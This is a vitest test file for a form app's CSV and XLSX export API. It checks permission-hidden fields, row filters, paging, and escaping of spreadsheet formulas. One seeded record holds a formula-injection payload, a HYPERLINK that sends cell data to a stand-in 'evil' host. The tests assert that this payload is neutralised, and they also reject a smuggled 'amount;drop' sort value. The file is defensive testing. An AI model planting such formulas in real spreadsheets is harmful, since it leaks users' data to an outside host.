import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AppDef, FormDef } from '@formflow/schema';
import { startApiServer, type ApiTestServer, type TestSession } from '../testing/api-test-server.js';

/** 订单: text, money, number, a hidden cost, an owner, a select, a date. */
const ordersForm: FormDef = {
  id: 'orders',
  name: { 'zh-CN': '订单', en: 'Orders' },
  fields: [
    { id: 'name', type: 'text', label: { 'zh-CN': '客户名称', en: 'Customer' } },
    { id: 'amount', type: 'money', label: { 'zh-CN': '金额', en: 'Amount' } },
    { id: 'qty', type: 'number', label: { 'zh-CN': '数量', en: 'Quantity' } },
    { id: 'cost', type: 'number', label: { 'zh-CN': '成本', en: 'Cost' } },
    { id: 'owner', type: 'member', label: { 'zh-CN': '负责人', en: 'Owner' } },
    {
      id: 'region',
      type: 'select',
      label: { 'zh-CN': '区域', en: 'Region' },
      settings: {
        options: [
          { id: 'east', label: { 'zh-CN': '华东', en: 'East' } },
          { id: 'north', label: { 'zh-CN': '华北', en: 'North' } },
        ],
      },
    },
    { id: 'day', type: 'date', label: { 'zh-CN': '日期', en: 'Date' } },
    { id: 'intro', type: 'description', label: 'Layout only', settings: { content: 'Fill in the order' } },
  ],
};

let server: ApiTestServer;
let seller: TestSession;
let viewer: TestSession;
let version = 1;

function insert(data: Record<string, unknown>, actor: string | null = null) {
  const made = server.ctx.store.records.createRecord({
    workspaceId: server.owner.workspaceId,
    formId: 'orders',
    formVersion: version,
    data: data as never,
    actor,
  });
  if (!made.ok) throw new Error('insert failed');
  return made.record;
}

beforeAll(async () => {
  server = await startApiServer({ now: () => new Date('2026-05-20T04:00:00.000Z') });
  const ws = server.owner.workspaceId;
  const sales = server.ctx.directory.createRole({ workspaceId: ws, name: 'Sales' });
  const look = server.ctx.directory.createRole({ workspaceId: ws, name: 'Look' });
  if (!sales.ok || !look.ok) throw new Error('roles');
  const app: Omit<AppDef, 'forms'> & { forms: FormDef[] } = {
    id: 'shop',
    name: 'Shop',
    forms: [ordersForm],
    permissionGroups: [
      // Sales see every order, but export only their own, without the cost.
      {
        id: 'see',
        formId: 'orders',
        name: 'See',
        principals: [{ kind: 'role', id: sales.role.id }],
        actions: ['view'],
        fields: { cost: 'hidden' },
      },
      {
        id: 'out',
        formId: 'orders',
        name: 'Export own',
        principals: [{ kind: 'role', id: sales.role.id }],
        actions: ['export'],
        fields: { cost: 'hidden' },
        rowFilter: { field: 'owner', op: 'isCurrentMember' },
      },
      {
        id: 'look',
        formId: 'orders',
        name: 'Look',
        principals: [{ kind: 'role', id: look.role.id }],
        actions: ['view'],
      },
    ],
  };
  server.installApp(server.owner, app);
  seller = await server.addMember({ name: '王小明', roleIds: [sales.role.id] });
  viewer = await server.addMember({ name: 'Viewer', roleIds: [look.role.id] });
  version = server.ctx.definitions.liveForm(ws, 'orders')?.version ?? 1;
  insert({
    name: '上海某某贸易有限公司',
    amount: 1200.5,
    qty: 3,
    cost: 900,
    owner: seller.memberId,
    region: 'east',
    day: '2026-05-01',
  });
  insert({
    name: '=HYPERLINK("http://evil/?"&A1,"x")',
    amount: -20,
    qty: -2,
    cost: 1,
    owner: seller.memberId,
    region: 'north',
  });
  insert({ name: 'Someone else\'s, "quoted"', amount: 5, qty: 1, cost: 2, owner: server.owner.memberId });
});
afterAll(async () => server.close());

const exportUrl = (query: string) => `${server.base}/api/v1/forms/orders/export${query}`;
const get = (session: TestSession, query: string, headers: Record<string, string> = {}) =>
  fetch(exportUrl(query), { headers: { cookie: session.cookie, ...headers } });

function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ',') {
      row.push(cell);
      cell = '';
    } else if (!quoted && c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else {
      cell += c;
    }
  }
  return rows;
}

describe('GET /api/v1/forms/:formId/export', () => {
  it('CSV: BOM, labels in the caller language, readable fields only, export row filter, formula-safe cells', async () => {
    const res = await get(seller, '?format=csv', { 'accept-language': 'zh-CN' });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe(
      `attachment; filename="__-2026-05-20.csv"; filename*=UTF-8''%E8%AE%A2%E5%8D%95-2026-05-20.csv`,
    );
    const bytes = Buffer.from(await res.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parseCsv(bytes.toString('utf8').slice(1));
    expect(rows[0]).toEqual(['客户名称', '金额', '数量', '负责人', '区域', '日期']);
    // The export row filter (owner = me) applies although the seller may view every order.
    expect(rows.length).toBe(3);
    expect(rows[1]).toEqual(['上海某某贸易有限公司', '¥1,200.50', '3', '王小明', '华东', '2026-05-01']);
    expect(rows[2]![0]).toBe(`'=HYPERLINK("http://evil/?"&A1,"x")`);
    // Numbers of numeric fields stay numbers: a negative amount is not prefixed.
    expect(rows[2]!.slice(1, 3)).toEqual(['-¥20.00', '-2']);
    expect(bytes.toString('utf8')).not.toContain('900');
  });

  it('XLSX: parses back with exceljs; headers, numeric cells, plain-string formulas, hidden field absent', async () => {
    const res = await get(seller, '?format=xlsx', { 'accept-language': 'en' });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.headers.get('content-disposition')).toContain(`filename*=UTF-8''Orders-2026-05-20.xlsx`);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(await res.arrayBuffer()) as never);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.name).toBe('Orders');
    const values = (n: number) => (sheet.getRow(n).values as unknown[]).slice(1);
    expect(values(1)).toEqual(['Customer', 'Amount', 'Quantity', 'Owner', 'Region', 'Date']);
    expect(sheet.rowCount).toBe(3);
    expect(values(2)).toEqual(['上海某某贸易有限公司', 1200.5, 3, '王小明', 'East', 'May 1, 2026']);
    const injected = sheet.getRow(3).getCell(1);
    expect(injected.type).toBe(ExcelJS.ValueType.String);
    expect(injected.value).toBe(`'=HYPERLINK("http://evil/?"&A1,"x")`);
    expect(sheet.getRow(3).getCell(2).value).toBe(-20);
    expect(sheet.getRow(3).getCell(2).numFmt).toBe('#,##0.00');
  });

  it('applies the caller filter and sort, and refuses a hidden field in either (no probing)', async () => {
    const filter = encodeURIComponent(JSON.stringify({ field: 'qty', op: 'gt', value: 0 }));
    const res = await get(server.owner, `?format=csv&filter=${filter}&sort=amount:desc`);
    const rows = parseCsv((await res.text()).slice(1));
    expect(rows.slice(1).map((r) => r[0])).toEqual(['上海某某贸易有限公司', `Someone else's, "quoted"`]);
    // The owner reads every field: cost is there.
    expect(rows[0]).toContain('Cost');

    const byCost = encodeURIComponent(JSON.stringify({ field: 'cost', op: 'gt', value: 100 }));
    const hidden = await get(seller, `?filter=${byCost}`);
    expect(hidden.status).toBe(400);
    expect(((await hidden.json()) as { code: string }).code).toBe('FIELD_NOT_READABLE');
    const sorted = await get(seller, '?sort=cost:asc');
    expect(sorted.status).toBe(400);
    const broken = await get(seller, '?filter=%7B%22field%22');
    expect(broken.status).toBe(400);
    expect(((await broken.json()) as { errors: { path: string }[] }).errors[0]!.path).toBe('querystring.filter');
    expect((await get(seller, '?sort=amount;drop')).status).toBe(400);
    expect((await get(seller, '?format=pdf')).status).toBe(400);
  });

  it('needs the export permission; another workspace gets 404', async () => {
    expect((await get(viewer, '')).status).toBe(403);
    expect((await fetch(exportUrl(''))).status).toBe(401);
    const other = await server.addWorkspace();
    expect((await get(other, '')).status).toBe(404);
  });

  it('pages through every record with the cursor (1,234 rows, three pages, each once, in order)', async () => {
    const ws = server.owner.workspaceId;
    server.store.db.transaction(() => {
      for (let i = 0; i < 1234; i++)
        insert({ name: `bulk-${String(i).padStart(4, '0')}`, qty: i, owner: seller.memberId });
    })();
    const res = await get(seller, '?format=csv&sort=qty:asc');
    const rows = parseCsv((await res.text()).slice(1)).slice(1);
    const bulk = rows.filter((r) => r[0]!.startsWith('bulk-'));
    expect(bulk.length).toBe(1234);
    expect(new Set(bulk.map((r) => r[0])).size).toBe(1234);
    expect(bulk.map((r) => Number(r[2]))).toEqual([...Array(1234).keys()]);
    const xlsx = await get(seller, '?format=xlsx');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(await xlsx.arrayBuffer()) as never);
    expect(workbook.worksheets[0]!.rowCount).toBe(1 + 2 + 1234);
    expect(ws).toBe(seller.workspaceId);
  });
});
